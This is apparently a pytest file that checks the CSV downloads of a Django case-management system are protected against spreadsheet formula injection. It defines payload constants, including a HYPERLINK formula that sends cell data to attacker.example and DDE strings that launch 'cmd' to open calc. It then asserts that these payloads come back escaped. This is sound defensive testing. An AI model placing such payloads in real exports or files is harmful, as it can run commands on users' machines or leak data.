"""Every CSV download of every area, with formula-like text typed into the records it lists.

Each test seeds records whose free-text fields start with what a spreadsheet would run
(``=``, ``+``, ``-``, ``@``, a tab), downloads the CSV through the real page as a person whose
role may download it, and checks that no cell of the file starts a formula and that the
typed text is there, made inert with a leading apostrophe (so the test cannot pass on a file
that simply left the text out). The audit export and the linkage clusters files are tested
in ``test_hostile_input.py``.
"""

from __future__ import annotations

import csv
import datetime
import io
import re
from decimal import Decimal

import pytest
from django.utils import timezone

from safeharbor.accounts.choices import AgencyKind, ProgramKind
from safeharbor.core.csv_export import FORMULA_STARTS
from tests import factories

pytestmark = pytest.mark.django_db

DESCRIPTION = '=HYPERLINK("http://attacker.example/?"&A1,"Open")'
NAME = "+cmd|' /C calc'!A0"
PURPOSE = "-2+3+cmd|' /C calc'!A0"
PAYEE = "@SUM(1+1)*cmd|' /C calc'!A0"
TABBED = "\t=1+1 tabbed"


def download(client, url: str, params: dict | None = None) -> list[list[str]]:
    response = client.get(url, params or {})
    assert response.status_code == 200, (url, response.status_code)
    assert response["Content-Type"].startswith("text/csv"), url
    body = b"".join(response.streaming_content).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(body)))
    assert rows, url
    return rows


NUMBER = re.compile(r"-?\d+(\.\d+)?")


def assert_inert(rows: list[list[str]], *typed: str) -> None:
    """No cell starts a formula (a negative amount is a number, not a formula); each typed
    value is in a cell, behind an apostrophe."""
    cells = [cell for row in rows for cell in row]
    for cell in cells:
        assert NUMBER.fullmatch(cell) or not cell.startswith(FORMULA_STARTS), cell
    for value in typed:
        assert any(cell.startswith("'" + value) for cell in cells), (value, rows[:4])


# Funds ----------------------------------------------------------------------------------------


def test_every_funds_csv_is_inert(staff_client):
    from safeharbor.funds import services
    from safeharbor.funds.permissions import SYSTEM
    from tests.funds.conftest import IN_YEAR, make_fund, receive

    city = factories.AgencyFactory(kind=AgencyKind.CITY)
    fund = make_fund(city)
    share = fund.shares.get(name="Victim services")
    program = factories.ProgramFactory(name=NAME, kind=ProgramKind.HOUSING)
    receive(fund, "8400.00", "1790.00", description=DESCRIPTION)
    allocation = services.allocation_create(
        actor=SYSTEM,
        membership=None,
        fund=fund,
        program=program,
        share=share,
        purpose=PURPOSE,
        amount=Decimal("3000.00"),
        allocated_on=IN_YEAR,
    )
    services.payment_post(
        actor=SYSTEM,
        membership=None,
        allocation=allocation,
        amount=Decimal("950.00"),
        payee=PAYEE,
        paid_on=IN_YEAR,
    )
    client, _user = staff_client("finance", agency=city)
    base = f"/staff/funds/{fund.slug}"
    year = fund.fiscal_years.get(name="FY 2025-26")
    downloads = {
        "receipts": (f"{base}/receipts/", {}, [DESCRIPTION]),
        "allocations": (f"{base}/allocations/", {}, [NAME, PURPOSE]),
        "journal": (f"{base}/journal/", {}, [DESCRIPTION]),
        "trial balance": (f"{base}/accounts/", {}, []),
        "statement": (
            f"{base}/reports/statement/",
            {"start": "2025-07-01", "end": "2026-06-30"},
            [],
        ),
        "annual report": (f"{base}/reports/annual/", {"year": year.pk}, [NAME]),
    }
    for url, params, typed in downloads.values():
        assert_inert(download(client, url, {**params, "format": "csv"}), *typed)


# Seized property --------------------------------------------------------------------------


def test_seized_property_reports_csv_are_inert(staff_client):
    from safeharbor.assets import services
    from safeharbor.enforcement import services as enforcement
    from tests.assets.conftest import days_ago, make_fund, seize_car

    city = factories.AgencyFactory(kind=AgencyKind.CITY)
    police = factories.AgencyFactory(kind=AgencyKind.POLICE)
    fund = make_fund(city)
    client, user = staff_client("property_officer", agency=police)
    keeper = user.memberships.get(agency=police)
    detective = factories.membership(factories.UserFactory(), police, "detective")
    services.policy_configure(
        membership=keeper, fund=fund, claim_window_days=30, notice_within_days=21
    )
    exploiter = enforcement.subject_create(
        membership=detective, kind="exploiter", aliases=["Synthetic Handle 9"]
    )
    investigation = enforcement.investigation_open(
        membership=detective,
        case_number="T-CSV-1",
        title="Synthetic investigation",
        opened_on=days_ago(200),
        lead_detective=detective.user,
        subjects=[exploiter],
    )
    car = seize_car(
        detective,
        exploiter,
        investigation,
        description=DESCRIPTION,
        custodian=PAYEE,
        location=TABBED,
    )
    services.forfeiture_advance(
        membership=keeper,
        asset=car,
        to_state="returned",
        occurred_on=days_ago(2),
        court_case_number=PURPOSE,
    )
    period = {"start": days_ago(365).isoformat(), "end": days_ago(0).isoformat()}
    seizures = download(client, "/staff/assets/reports/seizures/", {**period, "format": "csv"})
    assert_inert(seizures, DESCRIPTION)
    judgments = download(client, "/staff/assets/reports/judgments/", {**period, "format": "csv"})
    assert_inert(judgments, PURPOSE)


# Housing ----------------------------------------------------------------------------------


def test_housing_funder_csv_is_inert(staff_client):
    from safeharbor.housing import services
    from tests.housing.conftest import make_person, place

    lifeworks = factories.AgencyFactory(kind=AgencyKind.VICTIM_SERVICE_PROVIDER, vawa_covered=True)
    join = factories.AgencyFactory(kind=AgencyKind.HOUSING_PROVIDER)
    city = factories.AgencyFactory(kind=AgencyKind.CITY)
    program = factories.ProgramFactory(agency=join, name=DESCRIPTION, kind=ProgramKind.HOUSING)
    pilot = services.housing_program_configure(
        membership=None, program=program, project_type="rrh", partners=[join, lifeworks, city]
    )
    worker = factories.membership(factories.UserFactory(), lifeworks, "caseworker")
    person = make_person(lifeworks, worker, consent_to=join)
    unit = services.unit_create(
        membership=worker, agency=lifeworks, address="1 Synthetic Way", landlord_name=PAYEE
    )
    place(worker, person, pilot, lifeworks, unit)
    client, _user = staff_client("coordinator", agency=city)
    rows = download(
        client,
        f"/staff/housing/programs/{pilot.pk}/outcomes.csv",
        {"start": "2025-01-01", "end": "2026-06-30"},
    )
    assert_inert(rows, DESCRIPTION)
    assert not any(PAYEE in cell for row in rows for cell in row)  # never the landlord


# Reports ----------------------------------------------------------------------------------


def test_report_csv_with_an_agency_named_like_a_formula_is_inert(staff_client):
    from tests.reports.conftest import make_people

    provider = factories.AgencyFactory(name=NAME, kind=AgencyKind.VICTIM_SERVICE_PROVIDER)
    other = factories.AgencyFactory(name=TABBED, kind=AgencyKind.CHILD_WELFARE)
    month = timezone.localdate().replace(day=1)
    make_people(provider, 12, on=month)
    make_people(other, 12, on=month)
    client, _user = staff_client("analyst")
    rows = download(
        client, "/staff/reports/", {"format": "csv", "figure": "identifications-by-agency"}
    )
    assert_inert(rows, NAME, TABBED)


def test_public_statistics_csv_is_inert(client):
    from tests.reports.conftest import make_people

    provider = factories.AgencyFactory(name=NAME, kind=AgencyKind.VICTIM_SERVICE_PROVIDER)
    last_year = timezone.localdate().year - 1
    make_people(provider, 12, on=datetime.date(last_year, 3, 1))
    rows = download(
        client, "/statistics/", {"year": last_year, "format": "csv", "table": "identifications"}
    )
    assert_inert(rows)
    assert len(rows) > 1
